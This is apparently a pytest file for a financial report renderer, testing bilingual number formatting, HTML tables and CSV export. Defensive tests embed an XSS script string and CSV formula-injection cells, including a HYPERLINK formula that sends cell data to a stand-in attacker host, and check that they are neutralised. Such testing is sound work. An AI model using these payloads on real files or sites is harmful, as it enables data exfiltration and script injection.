from pathlib import Path

import pandas as pd

from kreport.render.numbers import format_change, quantity
from kreport.render.tables import html_table
from kreport.render.templating import block


def test_quantity_reads_naturally_in_each_language():
    assert quantity(385.0, "RMB_bn", lang="en") == "385 RMB bn"
    assert quantity(385.0, "RMB_bn", lang="zh") == "3850亿元"  # CLDR compact form, as Chinese financial media write it
    assert quantity(416.2, "million", lang="zh") == "4.16亿"
    assert quantity(416.2, "million", lang="en") == "416 million"
    assert quantity(210.0, "million", "over", "en") == ">210 million"
    assert quantity(3500.0, "RMB_bn", "about", "zh") == "≈3.5万亿元"  # never 35,000亿元
    assert quantity(0.7, "fraction", "over") == ">70%"
    assert quantity(float("nan"), "RMB_bn") == "–"


def test_format_change():
    assert format_change(175.1 / 118.6 - 1) == "+47.6%"
    assert format_change(float("nan")) == "–"


def test_html_table_escapes_text_cells_and_keeps_markup_cells():
    link = block("source_link", "x", "x", None, None)
    frame = pd.DataFrame({"note": ["<script>alert(1)</script>"], "link": [link]})
    markup = html_table(frame)
    assert "&lt;script&gt;" in markup and "<script>" not in markup
    assert '<a href="x">x</a>' in markup


def test_the_appendix_shows_each_figures_source_grade():
    import kreport
    from kreport.dataset.periods import period_label
    from kreport.render.report import Report
    from kreport.render.tables import figure_table

    data = kreport.load(Path(__file__).resolve().parents[1] / "fixtures" / "data")
    rep = Report("data", pd.Period("2025Q3", freq="Q-DEC"), "en", data)
    figures = data.metrics.assign(period_text=[period_label(p, k) for p, k in zip(data.metrics["period"], data.metrics["period_kind"])])
    markup = str(figure_table(rep, figures))
    assert "Source grade" in markup
    weak = figures[(figures["n_sources"] == 1) & figures["tier"].isin(["media", "aggregator"])]
    assert len(weak) and markup.count("one source only</span>") >= len(weak)


def test_the_csv_download_neutralises_formulas_and_keeps_numbers_numeric():
    """Issue 24 item 4 and the "-0.0" cosmetic: the data report's download shipped cells starting with '='."""
    import base64
    import csv
    import io
    import re

    import kreport
    from kreport.render.report import Report
    from kreport.render.tables import csv_download

    data = kreport.load(Path(__file__).resolve().parents[1] / "fixtures" / "data")
    rep = Report("data", pd.Period("2025Q3", freq="Q-DEC"), "en", data)
    frame = pd.DataFrame({
        "title": ['=HYPERLINK("http://evil.example/?x="&A1,"results")', "+SUM(A1)", "-A1", "@cmd", "\tx", "\rx", "plain"],
        "text_number": ["-4.2", "+3", "1e-3", "-0.0", "12", "", "a = b"],
        "value": [-4.2, -0.0, 0.0, 3850.0, float("nan"), -1.5e-3, 1.0],
        "count": [-1, 0, 1, 2, 3, 4, 5],
    })
    markup = str(csv_download(rep, frame, "x.csv"))
    payload = re.search(r'base64,([^"]+)"', markup).group(1)
    rows = list(csv.reader(io.StringIO(base64.b64decode(payload).decode("utf-8-sig"), newline="")))
    assert [row[0] for row in rows[1:]] == ['\'=HYPERLINK("http://evil.example/?x="&A1,"results")', "'+SUM(A1)", "'-A1", "'@cmd",
                                            "'\tx", "'\rx", "plain"]
    assert [row[1] for row in rows[1:]] == ["-4.2", "+3", "1e-3", "0.0", "12", "", "a = b"]
    assert [row[2] for row in rows[1:]] == ["-4.2", "0.0", "0.0", "3850.0", "", "-0.0015", "1.0"]
    assert [row[3] for row in rows[1:]] == ["-1", "0", "1", "2", "3", "4", "5"]
    assert frame.loc[0, "title"].startswith("=")  # the caller's frame is left as it was


def test_each_cell_names_its_column_for_a_phones_cards():
    frame = pd.DataFrame({"Platform": ["快手"], "Value <b>": ["1"]})
    markup = html_table(frame)
    assert '<td data-label="Platform">快手</td>' in markup and 'data-label="Value &lt;b&gt;"' in markup
    assert '<div class="table-scroll short"><table class="data-table">' in markup


def test_a_table_of_periods_and_a_table_of_long_rows_are_marked():
    periods = pd.DataFrame({"Platform": ["a"], "2023": ["1"], "2024": ["2"], "2025": ["3"]})
    assert 'class="table-scroll by-period short"' in html_table(periods)
    quarters = pd.DataFrame({"Metric": ["a"], "2025Q3": ["1"], "2025Q4": ["2"], "FY2026": ["3"]})
    assert "by-period" in html_table(quarters)
    assert "by-period" not in html_table(pd.DataFrame({"Metric": ["a"], "2025": ["1"], "Note": ["x"], "Y": ["1"]}))
    long = pd.DataFrame({c: ["x" * 30] for c in "abcde"})
    assert "long-rows" in html_table(long) and "long-rows" not in html_table(pd.DataFrame({c: ["x"] for c in "abcde"}))


def test_a_table_of_seven_columns_reads_as_cards_on_a_tablet_whatever_its_notes():
    """A figure table (metric, period, value, basis, source, grade, note) did not fit 768 px once its notes became
    the short reader notes: seven columns are long rows whatever their lengths."""
    assert "long-rows" in html_table(pd.DataFrame({c: ["x"] for c in "abcdefg"}))
